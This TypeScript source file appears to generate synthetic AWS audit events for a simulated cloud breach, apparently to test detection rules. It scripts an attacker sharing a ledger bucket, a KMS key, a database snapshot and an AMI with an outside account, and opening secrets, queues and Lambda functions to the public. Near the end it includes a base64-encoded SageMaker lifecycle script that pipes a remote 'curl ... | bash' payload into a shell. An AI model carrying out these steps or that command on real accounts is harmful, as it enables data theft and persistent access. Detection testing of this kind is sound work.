/**
 * Exfiltration and exposure with the attacker's admin user: the ledger
 * archive granted and replicated to the attacker's account, the ledger key
 * opened to it, a database snapshot and the settlement AMI shared with it,
 * and images, functions, a secret, a topic and a queue opened to anyone.
 */
import { aliasKeyArn, bucketPolicyParams, s3Call } from "../calls.js";
import { ACCOUNTS, ATTACKER_ACCOUNT, DATABASES } from "../organisation.js";
import type { Call, Json } from "../records.js";
import { ATTACK, CAST, type Story } from "./story.js";

const PROD = ACCOUNTS.prod.id;
const EUW1 = "eu-west-1";
export const SETTLEMENT_AMI = "ami-0a1c3e5f7b9d24680";
export const LEDGER_KEY = aliasKeyArn(PROD, EUW1, "ledger");
const OUTSIDER = `arn:aws:iam::${ATTACKER_ACCOUNT}:root`;
const XMLNS = "http://s3.amazonaws.com/doc/2006-03-01/";

const call = (service: string, name: string, readOnly: boolean, params: Json | null = null, more: Partial<Call> = {}): Call => ({
  source: `${service}.amazonaws.com`,
  name,
  readOnly,
  params,
  ...more,
});

const doc = (statements: Json[]) => JSON.stringify({ Version: "2012-10-17", Statement: statements });

/** 14:13: what the attacker's account gets. */
export function shareOut(s: Story): void {
  const A = ATTACK;
  const admin = CAST.admin(s);
  const who = `\`${A.createdUser}\``;
  const at = (time: string | number, c: Call, region = EUW1) => s.at(time, PROD, region, admin, c);
  const archive = (name: string, params: Json, bytesIn: number) => s3Call(s.g, PROD, EUW1, A.archive, name, false, params, { bytesIn });

  const read = { Sid: "SupportSync", Effect: "Allow", Principal: { AWS: OUTSIDER }, Action: ["s3:GetObject", "s3:ListBucket"], Resource: [`arn:aws:s3:::${A.archive}`, `arn:aws:s3:::${A.archive}/*`] };
  at("14:13:00", archive("PutBucketPolicy", bucketPolicyParams([read]), 301));
  const rule = {
    ID: "support-sync",
    Priority: 1,
    Filter: { Prefix: "" },
    Status: "Enabled",
    DeleteMarkerReplication: { Status: "Disabled" },
    Destination: { Bucket: "arn:aws:s3:::ledger-archive-sync-7731", Account: ATTACKER_ACCOUNT, AccessControlTranslation: { Owner: "Destination" } },
  };
  at("14:13:30", archive("PutBucketReplication", { replication: "", ReplicationConfiguration: { xmlns: XMLNS, Role: `arn:aws:iam::${PROD}:role/service-role/s3-replication-ledger-archive`, Rule: rule } }, 644));
  s.tell("14:13:00", who, `grants the attacker's account \`${ATTACKER_ACCOUNT}\` read access to \`${A.archive}\` and replicates the bucket to it`, [
    "s3.bucket-policy-grants-untrusted-account",
    "s3.replication-to-untrusted-account",
  ]);

  const keyPolicy = JSON.stringify(
    {
      Version: "2012-10-17",
      Id: "ledger-key-policy",
      Statement: [
        { Sid: "EnableRootAccess", Effect: "Allow", Principal: { AWS: `arn:aws:iam::${PROD}:root` }, Action: "kms:*", Resource: "*" },
        { Sid: "SupportSyncDecrypt", Effect: "Allow", Principal: { AWS: OUTSIDER }, Action: ["kms:Decrypt", "kms:DescribeKey", "kms:CreateGrant"], Resource: "*" },
      ],
    },
    null,
    2,
  );
  at("14:14:20", call("kms", "PutKeyPolicy", false, { keyId: LEDGER_KEY, policyName: "default", policy: keyPolicy, bypassPolicyLockoutSafetyCheck: false }, {
    resources: [{ accountId: PROD, type: "AWS::KMS::Key", ARN: LEDGER_KEY }],
  }));
  s.tell("14:14:20", who, "lets the attacker's account decrypt with the ledger key, which encrypts the archive, the snapshots and the database", ["kms.key-policy-opened"]);

  const db = DATABASES[PROD]!;
  const snapshot = "ledger-support-export";
  at("14:15:00", call("rds", "DescribeDBSnapshots", true, { dBInstanceIdentifier: db }));
  at("14:15:15", call("rds", "CreateDBSnapshot", false, { dBSnapshotIdentifier: snapshot, dBInstanceIdentifier: db }, {
    response: { dBSnapshotIdentifier: snapshot, dBInstanceIdentifier: db, status: "creating", dBSnapshotArn: `arn:aws:rds:${EUW1}:${PROD}:snapshot:${snapshot}` },
  }));
  at("14:19:30", call("rds", "ModifyDBSnapshotAttribute", false, { dBSnapshotIdentifier: snapshot, attributeName: "restore", valuesToAdd: [ATTACKER_ACCOUNT] }, {
    response: { dBSnapshotIdentifier: snapshot, dBSnapshotAttributes: [{ attributeName: "restore", attributeValues: [ATTACKER_ACCOUNT] }] },
  }));
  s.tell("14:15:00", who, "snapshots the ledger database straight through the RDS API, not the control-plane proxy, and shares the snapshot with the attacker's account", [
    "changes.proxy-bypassed",
    "rds.snapshot-shared",
  ]);
  at("14:16:00", call("ec2", "DescribeImages", true, { executableBySet: {}, imagesSet: {}, ownersSet: { items: [{ owner: "self" }] }, filterSet: {} }));
  at("14:16:15", call("ec2", "ModifyImageAttribute", false, { imageId: SETTLEMENT_AMI, attributeType: "launchPermission", launchPermission: { add: { items: [{ userId: ATTACKER_ACCOUNT }] } } }, {
    response: { _return: true },
  }));
  s.tell("14:16:00", who, `shares the settlement host's AMI \`${SETTLEMENT_AMI}\` with the attacker's account`, ["ec2.ami-shared"]);

  const pull = ["ecr:BatchCheckLayerAvailability", "ecr:BatchGetImage", "ecr:GetDownloadUrlForLayer"];
  const repoPolicy = doc([{ Sid: "SupportPull", Effect: "Allow", Principal: "*", Action: pull }]);
  at("14:16:50", call("ecr", "SetRepositoryPolicy", false, { repositoryName: "payments-api", policyText: repoPolicy, force: false }, {
    response: { registryId: PROD, repositoryName: "payments-api", policyText: repoPolicy },
    resources: [{ accountId: PROD, type: "AWS::ECR::Repository", ARN: `arn:aws:ecr:${EUW1}:${PROD}:repository/payments-api` }],
  }));
  s.tell("14:16:50", who, "lets anyone pull the payments API's images", ["ecr.repository-policy-public"]);

  const fn = "webhook-dispatcher";
  const fnArn = `arn:aws:lambda:${EUW1}:${PROD}:function:${fn}`;
  at("14:17:30", call("lambda", "GetFunction20150331v2", true, { functionName: fn }));
  at("14:17:50", call("lambda", "UpdateFunctionCode20150331v2", false, { functionName: fn, publish: true, dryRun: false }, {
    response: { functionName: fn, functionArn: `${fnArn}:42`, runtime: "python3.12", handler: "app.handler", codeSize: 51234, version: "42", state: "Active", lastUpdateStatus: "InProgress", packageType: "Zip" },
  }));
  const invoke = { Sid: "support-sync", Effect: "Allow", Principal: "*", Action: "lambda:InvokeFunction", Resource: fnArn };
  at("14:18:20", call("lambda", "AddPermission20150331v2", false, { functionName: fn, statementId: "support-sync", action: "lambda:InvokeFunction", principal: "*" }, {
    response: { statement: JSON.stringify(invoke) },
  }));
  at("14:18:40", call("lambda", "CreateFunctionUrlConfig", false, { functionName: fn, authType: "NONE", cors: {}, invokeMode: "BUFFERED" }, {
    response: { authType: "NONE", creationTime: "2025-03-14T14:18:40.512Z", functionArn: fnArn, functionUrl: "https://q7x2m4k9b1v8c3n6z5w0e8r2t4y6u1io.lambda-url.eu-west-1.on.aws/", invokeMode: "BUFFERED" },
  }));
  s.tell("14:17:30", who, `replaces the code of \`${fn}\` (which holds the webhook signing key), lets anyone invoke it, and gives it a function URL without authentication`, [
    "lambda.function-code-changed-outside-iac",
    "lambda.public-permission",
    "lambda.function-url-public",
  ]);

  const secret = "prod/settlement/sftp";
  at("14:19:00", call("secretsmanager", "PutResourcePolicy", false, {
    secretId: secret,
    resourcePolicy: doc([{ Sid: "SupportRead", Effect: "Allow", Principal: { AWS: "*" }, Action: "secretsmanager:GetSecretValue", Resource: "*" }]),
    blockPublicPolicy: false,
  }, { response: { arn: `arn:aws:secretsmanager:${EUW1}:${PROD}:secret:${secret}-Hq4v2N`, name: secret } }));
  const topic = `arn:aws:sns:${EUW1}:${PROD}:settlement-events`;
  at("14:20:10", call("sns", "SetTopicAttributes", false, {
    topicArn: topic,
    attributeName: "Policy",
    attributeValue: JSON.stringify({ Version: "2008-10-17", Id: "__default_policy_ID", Statement: [{ Sid: "support", Effect: "Allow", Principal: { AWS: "*" }, Action: ["SNS:Subscribe", "SNS:Receive"], Resource: topic }] }),
  }));
  const queue = "settlement-intake";
  at("14:20:40", call("sqs", "SetQueueAttributes", false, {
    queueUrl: `https://sqs.${EUW1}.amazonaws.com/${PROD}/${queue}`,
    attributes: { Policy: doc([{ Sid: "support", Effect: "Allow", Principal: "*", Action: ["sqs:SendMessage", "sqs:ReceiveMessage"], Resource: `arn:aws:sqs:${EUW1}:${PROD}:${queue}` }]) },
  }));
  s.tell("14:19:00", who, "opens a secret, the settlement events topic and the settlement intake queue to anyone", [
    "secretsmanager.resource-policy-public",
    "sns.topic-policy-public",
    "sqs.queue-policy-public",
  ]);

  const script = Buffer.from("#!/bin/bash\ncurl -s https://198.51.100.142/s.sh | bash &\n").toString("base64");
  at("14:21:30", call("sagemaker", "ListNotebookInstances", true, { maxResults: 10 }));
  at("14:21:50", call("sagemaker", "CreateNotebookInstanceLifecycleConfig", false, { notebookInstanceLifecycleConfigName: "fraud-model-setup", onStart: [{ content: script }] }, {
    response: { notebookInstanceLifecycleConfigArn: `arn:aws:sagemaker:${EUW1}:${PROD}:notebook-instance-lifecycle-config/fraud-model-setup` },
  }));
  at("14:22:10", call("sagemaker", "UpdateNotebookInstance", false, { notebookInstanceName: "fraud-model-research", lifecycleConfigName: "fraud-model-setup" }));
  s.tell("14:21:30", who, "attaches a lifecycle script of its own to the fraud team's SageMaker notebook", ["sagemaker.notebook-lifecycle-changed"]);
}
